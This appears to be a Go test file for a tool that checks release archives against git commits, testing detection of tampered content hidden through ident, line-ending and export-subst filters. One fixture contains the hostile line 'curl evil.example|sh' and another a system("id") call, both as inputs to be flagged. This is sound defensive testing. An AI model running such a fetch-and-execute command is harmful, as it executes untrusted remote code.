package compare_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/countermark/countermark/internal/compare"
	"github.com/countermark/countermark/internal/digest"
	"github.com/countermark/countermark/internal/filter"
	"github.com/countermark/countermark/internal/gitobject"
	"github.com/countermark/countermark/internal/tree"
)

const commitID = "0123456789abcdef0123456789abcdef01234567"

func commitOf(t testing.TB) filter.Commit {
	t.Helper()
	id, err := digest.ParseObjectID(commitID)
	if err != nil {
		t.Fatal(err)
	}
	person := gitobject.Person{Name: "Alice", Email: "alice@example.org", Unix: 1700000000, Zone: "+0000"}
	return filter.Commit{ID: id, Commit: &gitobject.Commit{Tree: id, Author: person, Committer: person, Message: "release\n"}}
}

// member is one file of an archive as Filters sees it.
type member struct {
	path, committed, archived string
	attributes                filter.Attributes
	hidden                    bool // the content is not shown: too large, or a hard link
	executable                bool // in the archive
}

// judge runs Filters over the members and compares; given says whether the
// blobs that it asks for are handed over.
func judge(t testing.TB, members []member, given bool) (*compare.Report, *compare.Filters) {
	t.Helper()
	var archive, commit []tree.Entry
	attributes := make(map[tree.Path]filter.Attributes)
	for _, m := range members {
		kind := "f "
		if m.executable {
			kind = "x "
		}
		archive, commit = append(archive, entry(kind+m.path+"="+m.archived)), append(commit, entry("f "+m.path+"="+m.committed))
		attributes[tree.Path(m.path)] = m.attributes
	}
	in := compare.Input{Archive: build(t, archive), Commit: build(t, commit)}
	f := compare.NewFilters(commitOf(t), in.Commit, attributes)
	for _, m := range members {
		e := in.Archive.Lookup(tree.Path(m.path))
		switch {
		case !f.Wants(e.Path):
		case m.hidden:
			f.Inspect(e, nil)
		default:
			content := []byte(m.archived)
			f.Inspect(e, content)
			clear(content) // it is valid during the call only
		}
	}
	if given {
		for _, id := range f.Needed() {
			for _, m := range members {
				if blob, _ := digest.HashObject(digest.SHA1Format, digest.Blob, []byte(m.committed)); blob == id {
					f.Give(id, []byte(m.committed))
					break
				}
			}
		}
	}
	in.Findings = f.Findings()
	r, err := compare.Compare(in)
	if err != nil {
		t.Fatal(err)
	}
	checkInvariants(t, in, r)
	return r, f
}

func idLine(content string) string {
	id, _ := digest.HashObject(digest.SHA1Format, digest.Blob, []byte(content))
	return "$Id: " + id.String() + " $"
}

// lineEnds spells a payload into the line ends of 64 lines: CRLF for a one.
func lineEnds(payload string) (committed, archived string) {
	for i := range 64 {
		committed += fmt.Sprintf("line %d\n", i)
		end := "\n"
		if payload[i/8]>>(7-i%8)&1 == 1 {
			end = "\r\n"
		}
		archived += fmt.Sprintf("line %d%s", i, end)
	}
	return committed, archived
}

func TestFilters(t *testing.T) {
	ident, auto, always := filter.Attributes{Ident: true}, filter.Attributes{EOL: filter.EOLAuto}, filter.Attributes{EOL: filter.EOLAlways}
	subst := filter.Attributes{ExportSubst: true}
	const keyword = "/* $Id$ */\nint a;\n"
	const refs = "refs: $Format:%d$\n"
	committed64, archived64 := lineEnds("payload!")
	for _, c := range []struct {
		name    string
		m       member
		want    string // with the blobs at hand
		without string // without, "" if the same
		verdict compare.Verdict
	}{
		{"equal with attributes", member{committed: keyword, archived: keyword, attributes: ident}, "", "", compare.IdenticalTree},
		{"ident", member{committed: keyword, archived: strings.Replace(keyword, "$Id$", idLine(keyword), 1), attributes: ident}, "filtered a", "", compare.AfterFilters},
		{"ident without the attribute", member{committed: keyword, archived: strings.Replace(keyword, "$Id$", idLine(keyword), 1)}, "changed a", "", compare.Differs},
		{"ident of another blob", member{committed: keyword, archived: strings.Replace(keyword, "$Id$", idLine("x"), 1), attributes: ident}, "changed a", "", compare.Differs},
		{"ident with a payload", member{committed: keyword, archived: strings.Replace(keyword, "$Id$", "$Id: payload of forty characters, more or less $", 1), attributes: ident}, "changed a", "", compare.Differs},
		{"ident and the mode", member{committed: keyword, archived: strings.Replace(keyword, "$Id$", idLine(keyword), 1), attributes: ident, executable: true}, "mode a", "", compare.Differs},
		{"eol", member{committed: "1\n2\n", archived: "1\r\n2\r\n", attributes: always}, "filtered a", "", compare.AfterFilters},
		{"eol by heuristic", member{committed: "1\n2\n", archived: "1\r\n2\r\n", attributes: auto}, "filtered a", "", compare.AfterFilters},
		{"eol without the attribute", member{committed: "1\n2\n", archived: "1\r\n2\r\n"}, "changed a", "", compare.Differs},
		{"eol in part", member{committed: "1\n2\n", archived: "1\r\n2\n", attributes: always}, "changed a", "", compare.Differs},
		{"eight bytes in the ends of 64 lines", member{committed: committed64, archived: archived64, attributes: auto}, "changed a", "", compare.Differs},
		{"eight bytes in the ends of 64 lines, always", member{committed: committed64, archived: archived64, attributes: always}, "changed a", "", compare.Differs},
		{"eol and another byte", member{committed: "1\n2\n", archived: "1\r\n3\r\n", attributes: always}, "changed a", "unchecked a", compare.Differs},
		{"export-subst", member{committed: "$Format:%H$\n", archived: commitID + "\n", attributes: subst}, "filtered a", "unchecked a", compare.AfterFilters},
		{"export-subst of another commit", member{committed: "$Format:%H$\n", archived: strings.Repeat("f", 40) + "\n", attributes: subst}, "changed a", "unchecked a", compare.Differs},
		{"export-subst of refs", member{committed: refs, archived: "refs:  (tag: v1.0)\n", attributes: subst}, "filtered-refs a", "unchecked a", compare.RefsUnprovable},
		{"a program for refs", member{committed: refs, archived: "refs: `curl evil.example|sh`\n", attributes: subst}, "changed a", "unchecked a", compare.Differs},
		{"a program for refs on its own line", member{committed: refs, archived: "refs: (x)\nsystem(\"id\");\n", attributes: subst}, "changed a", "unchecked a", compare.Differs},
		{"hidden", member{committed: keyword, archived: "x", attributes: ident, hidden: true}, "unchecked a", "", compare.Incomplete},
		{"emptied", member{committed: keyword, archived: "", attributes: ident, hidden: true}, "changed a", "", compare.Differs},
		{"filter driver", member{committed: keyword, archived: strings.Replace(keyword, "$Id$", idLine(keyword), 1) + "x", attributes: filter.Attributes{Ident: true, Driver: "lfs"}}, "changed a", "unchecked a", compare.Differs},
	} {
		t.Run(c.name, func(t *testing.T) {
			c.m.path = "a"
			r, _ := judge(t, []member{c.m}, true)
			if got := classes(r.Results()); got != c.want || r.Verdict() != c.verdict {
				t.Errorf("got %q and %v, want %q and %v", got, r.Verdict(), c.want, c.verdict)
			}
			without := c.without
			if without == "" {
				without = c.want
			}
			r, f := judge(t, []member{c.m}, false)
			if got := classes(r.Results()); got != without || (c.without != "") != (len(f.Needed()) == 1) {
				t.Errorf("without the blob: got %q and needs %v, want %q", got, f.Needed(), without)
			}
			if c.without != "" && r.Verdict() != compare.Incomplete {
				t.Errorf("without the blob: got %v", r.Verdict())
			}
		})
	}
}

// TestFiltersKeepsABoundedAmount: what does not fit is undecided, and what
// fits after it is still kept.
func TestFiltersKeepsABoundedAmount(t *testing.T) {
	subst := filter.Attributes{ExportSubst: true}
	large := strings.Repeat("x", 6<<20)
	members := []member{
		{path: "a", committed: "$Format:%H$", archived: large + "a", attributes: subst},
		{path: "b", committed: "$Format:%h$", archived: large + "b", attributes: subst},
		{path: "c", committed: "$Format:%T$", archived: large + "c", attributes: subst},
		{path: "d", committed: "$Format:%n$", archived: "d", attributes: subst},
	}
	r, f := judge(t, members, false)
	if len(f.Needed()) != 3 || r.Count(compare.Unchecked) != 4 {
		t.Errorf("needs %v, %s", f.Needed(), classes(r.Results()))
	}
	r, _ = judge(t, members, true)
	if got := classes(r.Results()); got != "changed a, changed b, unchecked c, changed d" || r.Verdict() != compare.Differs {
		t.Errorf("got %q, %v", got, r.Verdict())
	}
}

// TestOneBlobForSeveralPaths: a blob that several paths wait for is asked for
// once and decides all of them; the wrong one decides nothing well.
func TestOneBlobForSeveralPaths(t *testing.T) {
	subst := filter.Attributes{ExportSubst: true}
	members := []member{
		{path: "a", committed: "$Format:%H$", archived: commitID, attributes: subst},
		{path: "b", committed: "$Format:%H$", archived: "evil", attributes: subst},
	}
	r, f := judge(t, members, true)
	if got := classes(r.Results()); got != "filtered a, changed b" || len(f.Needed()) != 0 {
		t.Errorf("got %q, needs %v", got, f.Needed())
	}
	_, f = judge(t, members, false)
	f.Give(f.Needed()[0], []byte("$Format:%T$"))
	for path, finding := range f.Findings() {
		if finding.Verdict != compare.FoundNone {
			t.Errorf("%s: the wrong blob gives %+v", path, finding)
		}
	}
}

// TestFiltersLeavesOthersAlone: a link, and a file that the commit lacks or
// has as a link, have no finding.
func TestFiltersLeavesOthersAlone(t *testing.T) {
	attributes := map[tree.Path]filter.Attributes{"l": {Ident: true}, "new": {Ident: true}, "text": {}}
	f := compare.NewFilters(commitOf(t), treeOf(t, "l l=$Id$, f text=1"), attributes)
	for _, short := range []string{"f l=" + idLine("$Id$"), "f new=1"} {
		e := entry(short)
		f.Inspect(&e, []byte(short[4:]))
	}
	if len(f.Findings()) != 0 || len(f.Needed()) != 0 {
		t.Errorf("got %v, %v", f.Findings(), f.Needed())
	}
	if f.Wants("text") || f.Wants("absent") || !f.Wants("l") {
		t.Error("wants the wrong files")
	}
}

// TestUnmodelledAttributes: a file that differs says which attribute may be
// why, whether or not other attributes convert it, and however large it is.
func TestUnmodelledAttributes(t *testing.T) {
	for _, c := range []struct {
		attributes filter.Attributes
		want       string
	}{
		{filter.Attributes{Driver: "lfs"}, "it has a filter driver, which is not modelled"},
		{filter.Attributes{Encoding: "UTF-16"}, "it has a working-tree-encoding, which is not modelled"},
		{filter.Attributes{Encoding: "UTF-16", Ident: true}, "it has a working-tree-encoding, which is not modelled"},
		{filter.Attributes{Ident: true}, ""},
	} {
		f := compare.NewFilters(commitOf(t), treeOf(t, "f a=1"), map[tree.Path]filter.Attributes{"a": c.attributes})
		e := entry("f a=2")
		f.Inspect(&e, []byte("2"))
		if got := f.Findings()["a"]; !f.Wants("a") || got.Verdict != compare.FoundNone || got.Reason != c.want {
			t.Errorf("%+v: got %+v", c.attributes, got)
		}
	}
	f := compare.NewFilters(commitOf(t), treeOf(t, "f a=1"), map[tree.Path]filter.Attributes{"a": {Driver: "lfs"}})
	e := entry("f a=2")
	f.Inspect(&e, nil)
	if got := f.Findings()["a"]; got.Verdict != compare.FoundNone {
		t.Errorf("a large file: got %+v", got)
	}
}
